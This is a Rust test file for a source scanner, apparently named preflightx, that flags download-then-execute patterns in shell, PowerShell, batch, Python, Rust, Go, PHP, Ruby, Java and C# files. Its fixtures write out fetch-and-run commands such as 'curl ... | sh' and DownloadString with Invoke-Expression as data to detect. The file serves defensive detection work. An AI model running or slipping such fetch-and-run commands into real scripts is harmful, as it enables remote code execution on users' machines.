use preflightx::scanner::languages::analyze;

#[test]
fn recognizes_bounded_remote_to_execution_patterns_across_languages() {
    let fixtures = [
        ("install.sh", "curl https://example.test/payload | sh"),
        ("install.ps1", "DownloadString Invoke-Expression"),
        ("install.bat", "certutil payload start payload.exe"),
        ("setup.py", "requests.get(url)\nexec(payload)"),
        (
            "build.rs",
            "reqwest::get(url); std::process::Command::new(bin)",
        ),
        ("main.go", "http.Get(url); exec.Command(bin).Run()"),
        ("loader.php", "file_get_contents(url); eval($payload)"),
        ("loader.rb", "Net::HTTP.get(uri); Kernel.system(payload)"),
        (
            "Main.java",
            "HttpClient client; new ProcessBuilder(payload).start()",
        ),
        ("Build.cs", "HttpClient client; Process.Start(payload)"),
    ];
    for (path, source) in fixtures {
        let analysis = analyze(path, Some(source));
        assert!(
            analysis
                .findings
                .iter()
                .any(|finding| finding.id.starts_with("LANG-REMOTE")),
            "{path}"
        );
        assert!(analysis.language.is_some(), "{path}");
    }
}

#[test]
fn ignores_unrelated_text_and_detects_split_line_markers() {
    assert!(
        analyze("main.py", Some("print('hello')"))
            .findings
            .is_empty()
    );
    let analysis = analyze("main.py", Some("requests.get(url)\n# later\nexec(payload)"));
    assert!(
        analysis
            .findings
            .iter()
            .any(|finding| finding.id.starts_with("LANG-REMOTE"))
    );
}

#[test]
fn direct_pipe_is_high_with_first_line_and_joined_evidence() {
    let analysis = analyze("scripts/run.sh", Some("echo start\ncurl -s https://x.test | sh\n"));
    assert_eq!(analysis.language.as_deref(), Some("shell"));
    let finding = &analysis.findings[0];
    assert_eq!(finding.id, "LANG-REMOTE-DOWNLOAD-EXECUTE");
    assert_eq!(finding.score, 85);
    assert_eq!(finding.line, Some(2));
    assert_eq!(finding.evidence, vec!["remote-input indicator: curl".to_owned(), "execution indicator: | sh".to_owned()]);
    assert_eq!(analysis.findings.len(), 1);
}

#[test]
fn execution_root_and_limits() {
    let analysis = analyze("pkg/setup.py", Some("print(1)"));
    assert_eq!(analysis.findings.len(), 1);
    assert_eq!(analysis.findings[0].id, "LANG-EXECUTION-ROOT");
    assert_eq!(analysis.findings[0].title, "python build or package hook is an execution root");
    let go = analyze("gen.go", Some("package main\n   //go:generate stringer\n"));
    assert_eq!(go.findings[0].id, "LANG-EXECUTION-ROOT");
    let missing = analyze("x.ps1", None);
    assert_eq!(missing.incomplete_reasons, vec!["cannot decode powershell source: x.ps1".to_owned()]);
    assert!(analyze("notes.txt", Some("curl | sh")).language.is_none());
    assert!(analyze("..", Some("curl | sh")).language.is_none());
}
